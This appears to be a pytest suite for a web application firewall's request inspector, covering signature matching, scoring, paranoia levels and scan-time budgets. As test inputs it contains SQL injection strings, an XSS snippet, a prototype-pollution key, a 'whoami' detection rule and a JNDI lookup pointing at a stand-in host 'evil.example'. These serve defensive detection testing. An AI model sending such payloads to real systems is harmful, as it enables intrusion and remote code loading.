"""enforcement.inspection: the whole request through normalisation, engines and scoring."""

from __future__ import annotations

import json
from pathlib import Path

import time

import pytest
import yaml

from enforcement.decision import Inspection, RequestView
from enforcement.inspection import OVERSIZE, Inspectors, NoInspection, WafInspector, build_inspector, score
from enforcement.settings import InspectionSettings
from enforcement.signatures import DEFAULT_RULES, SEPARATOR, Signature, SignatureSet, load_signatures

PROTO = "33333333-3333-3333-3333-333333333333"
SQLI = "9624bf2c-e185-48a7-b742-8a115869aa9e"


@pytest.fixture(scope="module")
def rules_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped libinjection engines plus two small RE2 rules of our own (the shipped RE2 content is tested by test_signatures)."""
    path = tmp_path_factory.mktemp("rules")
    (path / "engines.yaml").write_text((DEFAULT_RULES / "engines.yaml").read_text())
    rules = [
        {"id": PROTO, "title": "proto key", "status": "test", "category": "prototype-pollution", "paranoia": 1, "severity": "critical",
         "targets": ["body_key", "query"], "pattern": "^__proto__$", "samples": {"hit": ["__proto__"], "miss": ["proto"]}},
        {"id": "44444444-4444-4444-4444-444444444444", "title": "notice word", "status": "test", "category": "cmdi", "paranoia": 2,
         "severity": "notice", "pattern": "(?i)\\bwhoami\\b", "samples": {"hit": ["whoami"], "miss": ["who am i"]}},
    ]  # fmt: skip
    (path / "test.yaml").write_text(yaml.safe_dump({"version": "1.0.0", "rules": rules}))
    return path


def _inspector(rules_dir: Path, **settings: object) -> WafInspector:
    return WafInspector(load_signatures(rules_dir), InspectionSettings(**settings))  # type: ignore[arg-type]


def _json(body: object) -> RequestView:
    return RequestView("POST", "/api/users", headers={"content-type": "application/json"}, body=json.dumps(body).encode())


def test_clean_requests_pass(rules_dir: Path) -> None:
    inspector = _inspector(rules_dir)
    assert inspector.inspect(RequestView("GET", "/search?q=o'reilly+books&page=2", headers={"user-agent": "Mozilla/5.0 (X11; Linux)"})) is None
    assert inspector.inspect(_json({"name": "Jane (admin) O'Neil", "bio": "I like <b>bold</b> text", "proto": 1})) is None


@pytest.mark.parametrize(
    "req",
    [RequestView("GET", "/s?q=1%27%20OR%20%271%27%3D%271"), RequestView("GET", "/items/1' or '1'='1"),
     RequestView("GET", "/", headers={"user-agent": "x' UNION SELECT password FROM users--"}),
     RequestView("GET", "/", headers={"cookie": "sid=1' or 1=1--"}), _json({"user": {"name": "admin'--"}})],
    ids=["query-encoded", "path-segment", "user-agent", "cookie", "json-leaf"],
)
def test_sqli_is_found_in_every_location(rules_dir: Path, req: RequestView) -> None:
    assert _inspector(rules_dir).inspect(req) == Inspection(("sqli",), (SQLI,), 5)


def test_json_keys_are_inspected_even_without_a_leaf(rules_dir: Path) -> None:
    found = _inspector(rules_dir).inspect(_json({"a": 1, "__proto__": {}}))
    assert found is not None and found.categories == ("prototype-pollution",)


def test_targets_limit_where_a_rule_applies(rules_dir: Path) -> None:
    assert _inspector(rules_dir).inspect(RequestView("GET", "/", headers={"x-name": "__proto__"})) is None
    assert _inspector(rules_dir).inspect(RequestView("GET", "/?__proto__")) is not None


def test_paranoia_and_threshold(rules_dir: Path) -> None:
    req = RequestView("GET", "/run?cmd=whoami")
    assert _inspector(rules_dir).inspect(req) is None  # paranoia 2 rule not run
    assert _inspector(rules_dir, paranoia=2).inspect(req) is None  # notice (2) below threshold 5
    assert _inspector(rules_dir, paranoia=2, threshold=2).inspect(req) == Inspection(("cmdi",), ("44444444-4444-4444-4444-444444444444",), 2)


def test_scores_add_up_once_per_rule_and_categories_sort_by_score(rules_dir: Path) -> None:
    req = RequestView("GET", "/?a=1'+or+'1'='1&b=2'+or+'2'='2&c=whoami", headers={"user-agent": "<script>alert(1)</script>"})
    found = _inspector(rules_dir, paranoia=2).inspect(req)
    assert found is not None and found.score == 12 and found.categories == ("sqli", "xss", "cmdi")


def test_oversize_deny_is_a_finding(rules_dir: Path) -> None:
    req = RequestView("POST", "/u", body=b"x" * 10, body_truncated=True)
    assert _inspector(rules_dir, oversize="deny").inspect(req) == Inspection((OVERSIZE,), (OVERSIZE,), 5)
    assert _inspector(rules_dir).inspect(req) is None


def test_score_helper() -> None:
    sig = Signature("a", "t", "xss", 1, 3, frozenset(), "re2", "x", None, {})
    assert score([sig], 5) is None and score([sig], 3) == Inspection(("xss",), ("a",), 3)


class _Fixed:
    def __init__(self, found: Inspection | None) -> None:
        self.found = found

    def inspect(self, req: RequestView) -> Inspection | None:
        return self.found


def test_inspectors_merge_what_each_finds() -> None:
    req = RequestView("GET", "/")
    a, b = Inspection(("sqli",), ("r1",), 5), Inspection(("mass-assignment", "sqli"), ("s1",), 9)
    assert Inspectors(_Fixed(None), _Fixed(None)).inspect(req) is None
    assert Inspectors(_Fixed(a), _Fixed(None)).inspect(req) is a
    assert Inspectors(_Fixed(a), _Fixed(b)).inspect(req) == Inspection(("mass-assignment", "sqli"), ("s1", "r1"), 14)


def test_build_inspector(rules_dir: Path) -> None:
    assert isinstance(build_inspector(InspectionSettings(enabled=False), rules_dir), NoInspection)
    assert isinstance(build_inspector(InspectionSettings(), rules_dir), WafInspector)


# ------------------------------------------------------------------ scan budget

ATTACK = "${jndi:ldap://evil.example/a}"


@pytest.fixture(scope="module")
def shipped() -> SignatureSet:
    return load_signatures(DEFAULT_RULES)


def _noise(chars: int, seed: int = 5) -> str:
    """Text that keeps the RE2 set's DFA building states: random words over letters and punctuation."""
    import random
    import string

    rng = random.Random(seed)
    alphabet = string.ascii_letters + string.digits + " .,;:-_/()'\"<>=&%$"
    words = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(3, 30))) for _ in range(2000)]
    return " ".join(rng.choice(words) for _ in range(chars // 8))[:chars]


@pytest.mark.parametrize("offset", [0, 200, 255, 300, 700, 1500, 3000, 7000])
def test_a_budgeted_scan_finds_what_one_scan_finds_wherever_the_pieces_are_cut(shipped: SignatureSet, offset: int) -> None:
    rules = shipped
    plain = "lorem ipsum dolor sit amet " * 600
    long_value = plain[:offset] + ATTACK + plain[offset:]  # one value: pieces are cut inside it and overlap
    many_values = SEPARATOR.join([plain[:offset], ATTACK, plain[offset:]])
    for text in (long_value, many_values):
        found, _ = rules.candidates_within(text, float("inf"))
        assert found == sorted(rules.candidates(text)) != []


@pytest.mark.parametrize("pad", [50, 200, 255, 300, 700, 1500, 3000, 5000, 9000])
def test_every_rule_sample_is_found_by_the_budgeted_scan_wherever_it_sits_in_a_long_value(shipped: SignatureSet, pad: int) -> None:
    """The piecewise scan (what the shim runs) finds every rule one whole scan finds, for each hit sample padded inside one long value and among many."""
    from enforcement.normalize import variants

    filler = "lorem ipsum dolor sit amet, consectetur adipiscing elit "
    missed = []
    for index, sig in enumerate(shipped.patterned):
        for sample in sig.samples["hit"]:
            for form in variants(sample, 2, True):
                if index not in shipped.candidates(form):
                    continue
                inside = (filler * (pad // len(filler) + 1))[:pad] + " " + form + " " + filler * 20
                among = SEPARATOR.join([filler * (pad // len(filler) + 1), form, filler * 20])
                for text in (inside, among):
                    found, _ = shipped.candidates_within(text, float("inf"))
                    if index in shipped.candidates(text) and index not in (found or []):
                        missed.append((sig.id, sample, pad))
    assert missed == []


def test_text_crafted_to_slow_the_scan_is_cut_off_at_the_budget_and_denied_by_default(shipped: SignatureSet) -> None:
    body = json.dumps({"note": _noise(60_000)}).encode()
    req = RequestView("POST", "/api/notes", headers={"content-type": "application/json"}, body=body)
    tight = WafInspector(shipped, InspectionSettings(budget_ms=0.001))
    found = tight.inspect(req)
    assert found is not None and found.categories[0] == "inspection-budget" and found.score >= 5 and tight.over_budget == 1
    allowing = WafInspector(shipped, InspectionSettings(budget_ms=0.001, over_budget="allow"))
    kept = allowing.inspect(RequestView("POST", "/api/notes", headers={"content-type": "application/json"}, body=body))
    assert (kept is None or "inspection-budget" not in kept.categories) and allowing.over_budget == 1


def test_ordinary_requests_stay_within_the_shipped_budget(shipped: SignatureSet) -> None:
    inspector = WafInspector(shipped, InspectionSettings())
    orders = [{"id": i, "sku": f"SKU-{i:06d}", "note": "Leave it at the door, please.", "email": f"u{i}@example.com"} for i in range(400)]
    req = RequestView("POST", "/api/orders", headers={"content-type": "application/json"}, body=json.dumps(orders).encode())
    assert inspector.inspect(req) is None and inspector.over_budget == 0


def test_values_remembered_clean_never_hide_an_attack_in_a_later_request(shipped: SignatureSet) -> None:
    inspector = WafInspector(shipped, InspectionSettings())
    headers = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "referer": "https://shop.example/catalog?page=1"}
    assert inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=headers)) is None
    assert inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=headers)) is None
    attacked = inspector.inspect(RequestView("GET", "/search?q=shoes&page=2&x=%27%20OR%201%3D1--", headers=headers))
    assert attacked is not None and attacked.categories[0] == "sqli"
    poisoned = {**headers, "referer": "https://shop.example/${jndi:ldap://evil/a}"}
    found = inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=poisoned))
    assert found is not None and "jndi" in found.categories


def test_a_pause_that_spends_no_cpu_does_not_cut_an_ordinary_scan(shipped: SignatureSet) -> None:
    """A garbage collection or another thread holding the interpreter moves the wall clock, not this thread's CPU time."""
    text = SEPARATOR.join(["Leave it at the door, please."] * 4000)
    stalled_wall = time.perf_counter() - 1.0  # the wall-clock budget is long gone, as after a 1 s stall
    found, _ = shipped.candidates_within(text, stalled_wall, time.thread_time() + 5.0)
    assert found is not None
    found, _ = shipped.candidates_within(text, stalled_wall, time.thread_time() - 1.0)  # ... but spent CPU is cut
    assert found is None
